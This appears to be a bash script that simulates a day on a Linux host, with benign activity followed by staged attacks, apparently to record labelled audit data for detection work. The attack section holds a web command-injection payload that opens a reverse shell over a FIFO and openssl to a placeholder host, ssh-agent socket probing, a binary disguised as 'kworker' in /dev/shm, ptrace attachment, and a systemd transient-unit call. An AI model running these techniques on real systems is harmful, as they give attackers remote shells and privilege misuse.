#!/bin/bash
# What happens on the host, in the order in which it happens: an ordinary day, and attacks in it that do no harm. Run by record.sh inside the recorded system.
set -u
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin LC_ALL=C.UTF-8
services=()
trap 'kill "${services[@]}" 2>/dev/null' EXIT

# By a builtin of the shell, so that it is the shell's own.
works_as() { echo "$(id -u "$1")" > /proc/self/loginuid; }
# Somebody at work: as after a login, everything below it carries their audit id.
session() { # USER COMMAND
  (works_as "$1" && exec su - "$1" -c "$2") </dev/null || true
}
# A service: started by an administrator (deploy) by hand, so that it carries that audit id.
service() { # USER COMMAND…
  local user=$1
  shift
  setpriv --reuid "$user" --regid "$user" --init-groups -- "$@" </dev/null >/dev/null 2>&1 &
  services+=($!)
}
# From somewhere else: what it runs is not of this host, so no audit id asks for it.
outside() { (echo 4294967295 > /proc/self/loginuid && exec "$@") </dev/null >/dev/null 2>&1; }
asks_shop() { outside curl -s -m 9 -G http://127.0.0.1:8080/ --data-urlencode "name=$1"; }
begin() { echo "$1 from $(date +%s.%3N)" >> /srv/times; }
end() { sleep 1; echo "$1 to $(date +%s.%3N)" >> /srv/times; sleep 3; }

works_as deploy
mkdir -p /run/dbus /run/ledger /home/maria/ledger
chown ledger: /run/ledger
cp /srv/host/{Makefile,report.c,total.c,total.h} /home/maria/ledger
chown -R maria: /home/maria

# ---- the ordinary day
service root /usr/bin/dbus-daemon --config-file=/usr/share/dbus-1/system.conf --nofork --nopidfile
service ledger /opt/ledger/bin/ledgerd
service shop /usr/bin/node /opt/shop/shop.js
sleep 2
session maria 'cd ledger && make -s check && ledger'
session maria 'eval "$(ssh-agent)" >/dev/null; ssh-add -l; busctl --system list >/dev/null; ssh-agent -k >/dev/null'
# A package of the office's own: built, installed, and its maintainer script runs.
mkdir -p /srv/build/ledger-tools/{DEBIAN,usr/bin}
printf 'Package: ledger-tools\nVersion: 1.2\nArchitecture: all\nMaintainer: Ashdown <it@ashdown.example>\nDescription: tools for the ledger\n' > /srv/build/ledger-tools/DEBIAN/control
printf '#!/bin/sh\nset -e\nledger >/var/log/ledger-tools.log\n' > /srv/build/ledger-tools/DEBIAN/postinst
chmod 755 /srv/build/ledger-tools/DEBIAN/postinst
cp /usr/local/bin/ledger /srv/build/ledger-tools/usr/bin/ledger-total
dpkg-deb --build /srv/build/ledger-tools /srv/build/ledger-tools_1.2_all.deb >/dev/null
dpkg -i /srv/build/ledger-tools_1.2_all.deb >/dev/null
# The backup goes through a FIFO of its own, the log is rotated, a job of cron runs.
cat > /usr/local/sbin/nightly-backup <<'JOB'
#!/bin/sh
mkfifo -m 600 /var/backups/ledger.pipe
gzip -c < /var/backups/ledger.pipe > /var/backups/ledger.tar.gz &
tar -C /opt -cf /var/backups/ledger.pipe ledger
wait
rm /var/backups/ledger.pipe
JOB
chmod 755 /usr/local/sbin/nightly-backup
nightly-backup
run-parts --test /etc/cron.daily >/dev/null
for report in monday tuesday; do session maria "curl -s 'http://127.0.0.1:8080/?name=$report'"; done
session maria 'gdbus introspect --system --dest org.freedesktop.DBus --object-path /org/freedesktop/DBus >/dev/null; strace -c -o ledger/calls.txt ledger'
dbus-send --system --dest=org.freedesktop.DBus --print-reply /org/freedesktop/DBus org.freedesktop.DBus.ListNames >/dev/null

# ---- attacks: what they run prints a line, or asks who it is
begin fifo-shell
# The shop's parameter becomes a shell over a FIFO in /tmp, to a listener that asks `id` and `uname` and hangs up.
outside bash -c '(sleep 3; echo id; sleep 1; echo uname -s; sleep 1; echo exit) |
  timeout 12 openssl s_server -quiet -accept 203.0.113.45:443 -cert /srv/host/cert.pem -key /srv/host/key.pem' &
sleep 1
asks_shop 'x; mkfifo /tmp/.q; sh -i < /tmp/.q 2>&1 | timeout 6 openssl s_client -quiet -connect 203.0.113.45:443 > /tmp/.q; rm /tmp/.q'
end fifo-shell

begin agent-socket
# The administrator's account is misused: a script speaks to maria's ssh-agent and asks which keys it holds (none).
su - maria -c 'ssh-agent -a /tmp/ssh-maria.agent >/dev/null' </dev/null
mkdir -p /tmp/ssh-XXmaria && mv /tmp/ssh-maria.agent /tmp/ssh-XXmaria/agent.4711
python3 -c "
import socket
s = socket.socket(socket.AF_UNIX)
s.connect('/tmp/ssh-XXmaria/agent.4711')
s.send(b'\0\0\0\1\x0b')
print(s.recv(64))" >/dev/null
end agent-socket

begin queues
# A program in shared memory uses queues, segments and sockets; the shop's account runs it.
asks_shop 'x; mkdir -p /dev/shm/.x; cp /srv/host/queue /dev/shm/.x/kworker; /dev/shm/.x/kworker; rm -r /dev/shm/.x'
end queues

begin ptrace
# A program in /tmp attaches to the ledger service, with its account.
address=$(awk '/rw-p.*\[heap\]/ { sub(/-.*/, "", $1); print $1 }' "/proc/$(pgrep -u ledger -f ledgerd)/maps")
setpriv --reuid ledger --regid ledger --init-groups sh -c "cp /srv/host/attach /tmp/.attach; /tmp/.attach $(pgrep -u ledger -f ledgerd) $address; rm /tmp/.attach" >/dev/null
end ptrace

begin dbus
# The shop's account listens on the system bus and asks systemd for a unit of its own (nobody there answers).
asks_shop "x; timeout 2 dbus-monitor --system; busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit 'ssa(sv)a(sa(sv))' x.service fail 1 ExecStart 'a(sasb)' 1 /bin/sh 3 sh -c id false 0"
end dbus

# ---- the day goes on
session maria 'ledger; cd ledger && touch total.c && make -s check'
nightly-backup
